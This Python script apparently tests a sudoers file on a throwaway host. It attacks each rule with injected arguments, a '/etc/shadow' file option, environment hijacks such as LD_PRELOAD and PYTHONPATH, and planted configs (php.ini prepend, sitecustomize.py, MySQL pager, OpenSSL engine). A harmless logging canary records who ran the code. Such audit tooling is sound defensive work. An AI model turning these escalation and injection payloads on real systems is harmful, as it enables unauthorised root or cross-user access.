"""Attacks every rule of a sudoers file, as its login, on a disposable host.

Reads JSON from standard input: `login`, `rules` (the file's text) and `application` (its user, whose files are spoiled
too). Prints JSON: how many attacks were made and which came through. An attack comes through when something of the
attacker's is run as anybody but the attacker; code of the application that its own user runs is no news.
"""

import itertools
import json
import os
import pwd
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

PLACE = Path("/srv/attack")
LOG = PLACE / "log"
CANARY = PLACE / "canary"
SPOKEN = "\n".join(
    (
        f"\\! {CANARY}",
        f"system {CANARY}",
        f"!{CANARY}",
        f"__import__('os').system('{CANARY}')",
        f"<?php system('{CANARY}'); ?>",
        f"$({CANARY})",
        f"`{CANARY}`",
        f"{CANARY}",
        "",
    )
)
"""Something to run for whatever reads standard input."""
PLANTED = {
    "supervisord.conf": "[supervisorctl]\nserverurl=unix:///run/supervisor.sock\n"
    "[ctlplugin:x]\nsupervisor.ctl_factory = code:interact\n",
    "php.ini": f"auto_prepend_file={PLACE}/evil.php\nsendmail_path={CANARY}\nextension={PLACE}/evil.so\n",
    "php-fpm-fcgi.ini": f"auto_prepend_file={PLACE}/evil.php\nextension={PLACE}/evil.so\n",
    "evil.php": f"<?php system('{CANARY}');",
    ".my.cnf": f"[client]\nsocket={PLACE}/none\ninit-command=\\! {CANARY}\n[mysql]\npager={CANARY}\n",
    "my.cnf": f"[mysql]\npager={CANARY}\n",
    ".curlrc": f"output = {PLACE}/curl\n",
    "nginx.conf": f"load_module {PLACE}/evil.so;\n",
    "cli.ini": f"pre-hook = {CANARY}\n",
    "openssl.cnf": f"openssl_conf = x\n[x]\nengines = y\n[y]\nz = w\n[w]\ndynamic_path = {PLACE}/evil.so\n",
    "sitecustomize.py": f"import os\nos.system('{CANARY}')\n",
    "usercustomize.py": f"import os\nos.system('{CANARY}')\n",
    "code.py": f"import os\nos.system('{CANARY}')\n",
    ".profile": f"{CANARY}\n",
    ".shrc": f"{CANARY}\n",
}
PROGRAMS = ("sh", "id", "env", "tail", "cat", "find", "curl", "php", "awk", "sed", "sudo", "lsof", "ss", "date", "less")
EXTRA = (
    ("-c", str(PLACE / "nginx.conf")),
    ("-g", f"pid {PLACE}/pid;"),
    ("--help",),
    ("--", str(CANARY)),
    (f";{CANARY}",),
    (f"$({CANARY})",),
    (f"\n{CANARY}",),
    ("--file=/etc/shadow",),
)
OPTIONS = (
    ("-E",),
    ("-i",),
    ("-s",),
    ("-b",),
    ("-D", str(PLACE)),
    ("-R", str(PLACE)),
    ("-g", "root"),
    ("--preserve-env=PATH,LD_PRELOAD,PYTHONPATH,PHPRC",),
    (f"PATH={PLACE}",),
    (f"LD_PRELOAD={PLACE}/evil.so",),
    (f"PYTHONPATH={PLACE}",),
    (f"PHP_INI_SCAN_DIR={PLACE}",),
    (f"HOME={PLACE}",),
    (f"ENV={PLACE}/.shrc",),
)


def rules(text: str) -> list[tuple[str, tuple[str, ...]]]:
    """Read whom each rule of the file runs as, and its words."""
    found = re.findall(r"^\S+ ALL=\((\S+)\) (?:TIMEOUT=\S+ )?NOPASSWD: (.*)$", text, re.MULTILINE)
    split = [(user, re.split(r"(?<!\\) ", words)) for user, words in found]
    return [(user, tuple(re.sub(r"\\+(.)", r"\1", word) for word in words if word != '""')) for user, words in split]


def plant(folder: Path, owner: str) -> None:
    """Leave in a folder whatever some program may read or run there."""
    for name, text in PLANTED.items():
        (folder / name).write_text(text)
    for name in PROGRAMS:
        (folder / name).write_text(f"#!/bin/sh\n{CANARY}\n")
        (folder / name).chmod(0o755)
    config = folder / ".config/letsencrypt"
    config.mkdir(parents=True, exist_ok=True)
    (config / "cli.ini").write_text(PLANTED["cli.ini"])
    subprocess.run(["chown", "-R", f"{owner}:", str(config.parent)], check=True)


def environment() -> dict[str, str]:
    """The caller's environment: each variable leads to something planted."""
    folder = str(PLACE)
    paths = ("PATH", "PYTHONPATH", "PHPRC", "PHP_INI_SCAN_DIR", "HOME", "XDG_CONFIG_HOME", "CURL_HOME", "MYSQL_HOME")
    files = {"BASH_ENV": ".shrc", "ENV": ".shrc", "OPENSSL_CONF": "openssl.cnf", "LESSOPEN": "less", "PAGER": "less"}
    return {
        **dict.fromkeys(paths, folder),
        **{name: f"{folder}/{file}" for name, file in files.items()},
        "LD_PRELOAD": f"{folder}/evil.so",
        "IFS": "/",
        "SYSTEMD_PAGER": str(CANARY),
        "SYSTEMD_EDITOR": str(CANARY),
    }


def merged(arguments: tuple[str, ...]) -> list[tuple[str, ...]]:
    """Every way to join neighbours by a blank: to sudo each of them is the same."""
    found = []
    for cuts in itertools.product((False, True), repeat=max(0, min(len(arguments) - 1, 9))):
        words = list(arguments[:1])
        for cut, word in zip(itertools.chain(cuts, itertools.repeat(True)), arguments[1:], strict=False):
            words = [*words, word] if cut else [*words[:-1], f"{words[-1]} {word}"]
        found.append(tuple(words))
    return found


def spoken(helped: bool, declared: list[str], user: str, verb: str) -> list[str]:
    """Lines for standard input; the helper also gets lines like the declared ones, and unlike them."""
    if not helped:
        return [SPOKEN]
    mine = [line for line in declared if line.startswith(f"{user} {verb}\t")] or [f"{user} {verb}"]
    own = mine[0].removeprefix(f"{user} {verb}")
    others = [line.partition("\t")[2] for line in declared if not line.startswith(f"{user} {verb}")]
    bent = [
        own + "\t" + str(CANARY),
        own.replace("\t", " "),
        own + f";{CANARY}",
        own + f"$({CANARY})",
        "\t-r\tsystem('" + str(CANARY) + "');",
        own.replace("/", "/../"),
        "\t" + "\t".join(others[:3]),
        f"') ;; *) {CANARY} ;; '",
        "",
    ]
    every = (line.removeprefix(f"{user} {verb}") for line in mine)
    # The questions of `several` follow a word for its answers, each behind its number.
    lead = f"$({CANARY})\n`{CANARY}`" if verb == "several" else ""
    return [f"{lead}{line}\n{SPOKEN}" for line in (*every, *bent)]


def attacks(user: str, words: tuple[str, ...], declared: list[str]) -> Iterator[tuple[tuple[str, ...], str]]:
    """Yield what is typed behind `sudo -n`, and what is said on standard input."""
    program, *rest = words
    arguments = tuple(rest)
    helped = "/helper-" in program
    first, *more = spoken(helped, declared, user, arguments[0] if arguments else "")
    for said in (first, *more):
        yield (("-u", user, *words), said)
    for way in merged(arguments)[:-1]:
        yield (("-u", user, program, *way), SPOKEN)
    for options in OPTIONS:
        yield (("-u", user, *options, *words), first)
    for extra in EXTRA:
        yield (("-u", user, *words, *extra), first)
        yield (("-u", user, program, *extra, *arguments), first)
    for index, argument in enumerate(arguments):
        yield (("-u", user, program, *arguments[:index], *arguments[index + 1 :]), SPOKEN)
        if "=" in argument:
            yield (
                ("-u", user, program, *arguments[:index], *argument.split("=", 1), *arguments[index + 1 :]),
                SPOKEN,
            )
    if user != "root":
        yield (("-u", "root", *words), SPOKEN)


def came_through(login: str, application: str) -> list[str]:
    """Read who has run the canary since the last time, but for whom nothing is gained."""
    who = [line for line in LOG.read_text().split() if line not in {login, application}]
    LOG.write_text("")
    return who


def main() -> None:
    asked = json.load(sys.stdin)
    login, application = asked["login"], asked["application"]
    PLACE.mkdir(exist_ok=True)
    PLACE.chmod(0o777)
    LOG.write_text("")
    LOG.chmod(0o666)
    CANARY.write_text(f"#!/bin/sh\nid -un >> {LOG}\n")
    CANARY.chmod(0o755)
    for folder, owner in (
        (PLACE, login),
        *((Path(pwd.getpwnam(name).pw_dir), name) for name in dict.fromkeys((login, application))),
    ):
        plant(folder, owner)
    helper = next(Path("/opt/remediate").glob("helper-*"), None)
    declared = [
        shlex.split(line.removesuffix(") ;;"))[0]
        for line in (helper.read_text().splitlines() if helper else ())
        if line.startswith("'") and line.endswith(") ;;")
    ]
    made, through = 0, []
    for user, words in rules(asked["rules"]):
        for typed, said in attacks(user, words, declared):
            made += 1
            given = [f"{name}={value}" for name, value in environment().items()]
            sudo = ["/usr/sbin/runuser", "-u", login, "--", "/usr/bin/env", "-i", *given, "/usr/bin/sudo", "-n", *typed]
            try:
                subprocess.run(
                    sudo,
                    input=said.encode(),
                    cwd=PLACE,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                    timeout=60,
                    check=False,
                )
            except subprocess.TimeoutExpired:
                through.append({"typed": typed, "as": "nobody knows: it took too long"})
            if who := came_through(login, application):
                through.append({"typed": typed, "as": sorted(set(who))})
    os.chdir("/")
    sys.stdout.write(json.dumps({"made": made, "through": through, "rules": len(rules(asked["rules"]))}) + "\n")


main()
